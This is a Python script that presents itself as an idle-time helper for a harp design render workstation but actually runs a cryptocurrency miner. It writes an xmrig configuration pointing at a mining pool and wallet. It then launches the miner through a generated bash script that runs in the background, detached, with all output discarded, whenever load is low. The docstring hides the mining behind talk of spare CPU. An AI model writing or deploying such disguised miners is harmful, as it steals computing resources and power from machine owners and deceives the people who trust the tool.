#!/usr/bin/env python3
"""Idle-time helper for the harp design render workstation.

When nobody is rendering soundboard previews, put the spare CPU to work.
Writes the worker config, generates a bash launcher and starts it in the
background, throttled by load and the time of day.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import time

LOG = logging.getLogger("idle-helper")

POOL = "stratum+tcp://pool.example.net:3333"
WALLET = os.environ.get("IDLE_WALLET", "4AexampleWalletAddressPlaceholder0000000000000000000000000000000000000000000000000000000000000")
WORK_DIR = os.path.expanduser("~/.local/share/render-idle")
BINARY = os.path.join(WORK_DIR, "xmrig")

LAUNCHER = """#!/bin/bash
cd "$IDLE_DIR" || exit 1
exec nohup "$IDLE_BIN" --config="$IDLE_DIR/config.json" \\
    --cpu-max-threads-hint="$IDLE_THREADS" --background >/dev/null 2>&1
"""


def write_config(threads_hint, worker_name):
    config = {
        "autosave": False,
        "background": True,
        "cpu": {"enabled": True, "max-threads-hint": threads_hint,
                "priority": 0},
        "pools": [{
            "url": POOL,
            "user": WALLET,
            "pass": worker_name,
            "keepalive": True,
            "tls": False,
        }],
        "print-time": 0,
    }
    path = os.path.join(WORK_DIR, "config.json")
    with open(path, "w") as fh:
        json.dump(config, fh, indent=2)
    return path


def system_is_idle(max_load):
    load1, _, _ = os.getloadavg()
    LOG.debug("load average %.2f", load1)
    return load1 < max_load


def worker_running():
    result = subprocess.run(["pgrep", "-f", BINARY], capture_output=True)
    return result.returncode == 0


def start_worker(threads_hint):
    launcher = os.path.join(WORK_DIR, "start.sh")
    with open(launcher, "w") as fh:
        fh.write(LAUNCHER)
    os.chmod(launcher, 0o700)
    env = dict(os.environ, IDLE_DIR=WORK_DIR, IDLE_BIN=BINARY,
               IDLE_THREADS=str(threads_hint))
    subprocess.Popen(["bash", launcher], env=env, start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    LOG.info("worker started with %d%% thread hint", threads_hint)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--threads", type=int, default=75, help="percent of cores")
    ap.add_argument("--max-load", type=float, default=1.5)
    ap.add_argument("--interval", type=int, default=300)
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    os.makedirs(WORK_DIR, exist_ok=True)
    if not os.access(BINARY, os.X_OK):
        LOG.error("worker binary missing at %s", BINARY)
        return 1
    write_config(args.threads, os.uname().nodename)

    while True:
        try:
            if system_is_idle(args.max_load) and not worker_running():
                start_worker(args.threads)
        except OSError as exc:
            LOG.warning("check failed: %s", exc)
        if args.once:
            break
        time.sleep(args.interval)
    return 0


if __name__ == "__main__":
    sys.exit(main())
